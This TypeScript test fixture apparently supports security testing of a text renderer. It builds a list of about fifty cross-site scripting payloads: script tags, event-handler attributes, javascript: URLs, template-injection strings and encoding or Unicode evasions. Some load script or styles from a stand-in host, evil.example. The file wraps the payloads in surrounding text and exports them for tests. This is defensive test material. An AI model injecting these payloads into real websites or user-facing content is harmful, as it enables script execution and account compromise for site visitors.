/** Attribute that elements made from a text would carry. */
export const MARKER = 'prosaxss';

const RUN = 'window.owned=1,alert(1)';
const PAYLOADS = [
  `<script ${MARKER}>${RUN}</script>`,
  `<ScRiPt ${MARKER} src=//evil.example/x.js></ScRiPt>`,
  `<img ${MARKER} src=x onerror="${RUN}">`,
  `<img/${MARKER}/src=x/onerror=${RUN}>`,
  `<svg ${MARKER} onload="${RUN}">`,
  `<svg ${MARKER}><script>${RUN}</script></svg>`,
  `<svg ${MARKER}><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math ${MARKER}><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe ${MARKER} src="javascript:${RUN}"></iframe>`,
  `<iframe ${MARKER} srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object ${MARKER} data="javascript:${RUN}"></object>`,
  `<embed ${MARKER} src="javascript:${RUN}">`,
  `<a ${MARKER} href="javascript:${RUN}">aqui</a>`,
  `<body ${MARKER} onload=${RUN}>`,
  `<details ${MARKER} open ontoggle=${RUN}>`,
  `<video ${MARKER}><source onerror="${RUN}">`,
  `<input ${MARKER} autofocus onfocus=${RUN}>`,
  `<form ${MARKER} action=javascript:${RUN}><button>x`,
  `<style ${MARKER}>*{background:url(//evil.example/x)}</style>`,
  `<link ${MARKER} rel=stylesheet href=//evil.example/x.css>`,
  `<base ${MARKER} href=//evil.example/>`,
  `<meta ${MARKER} http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<template ${MARKER}><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img ${MARKER} src=x onerror=${RUN}>">`,
  `" ${MARKER} onmouseover="${RUN}" x="`,
  `' ${MARKER} onfocus='${RUN}' autofocus x='`,
  `javascript:${RUN}//`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:msgbox(1)`,
  `[aqui](javascript:${RUN})`,
  `https://evil.example/"onmouseover="${RUN}`,
  `https://javascript:${RUN}@evil.example/%0a${RUN}`,
  `*<b ${MARKER}>_<i>~\`<u ${MARKER}>\`~_*`,
  '`<img ' + MARKER + ` src=x onerror=${RUN}>\``,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `$t(common:cancel) {{name}}`,
  `--><img ${MARKER} src=x onerror=${RUN}>`,
  `]]><img ${MARKER} src=x onerror=${RUN}>`,
  `</title><img ${MARKER} src=x onerror=${RUN}>`,
  `</textarea><img ${MARKER} src=x onerror=${RUN}>`,
  `&lt;img ${MARKER} src=x onerror=${RUN}&gt;`,
  `&#60;img ${MARKER} src=x onerror=${RUN}&#62;`,
  `\\u003cimg ${MARKER} src=x onerror=${RUN}\\u003e`,
  `\u202e<img ${MARKER} src=x onerror=${RUN}>`,
  `<\u200bimg ${MARKER} src=x onerror=${RUN}>`,
  `＜img ${MARKER} src=x onerror=${RUN}＞`,
  `<img ${MARKER} src=x onerror\u3000=${RUN}>`,
  '__proto__',
];
const AROUND: ((text: string) => string)[] = [
  (text) => text,
  (text) => `oi *${text}* https://ok.example/?q=${text}`,
  (text) => `> ${text}\n\`\`\`${text}\`\`\``,
];

/** Over 100 different texts that are markup if taken as such (docs/spec/reliability-security.md §5 S11). */
export const HOSTILE_MARKUP: string[] = AROUND.flatMap((around) => PAYLOADS.map(around));

/** The short ones, at most 50 characters, for names. */
export const HOSTILE_NAMES: string[] = PAYLOADS.filter((text) => text.length <= 50 && text.includes('<')).concat(
  `<b ${MARKER}>x</b>`,
  `"><s ${MARKER}>`,
  `<img ${MARKER} src=x onerror=alert(1)>`,
  `' ${MARKER} '`,
  '{{7*7}}$t(x)',
  '\u202eevil',
);
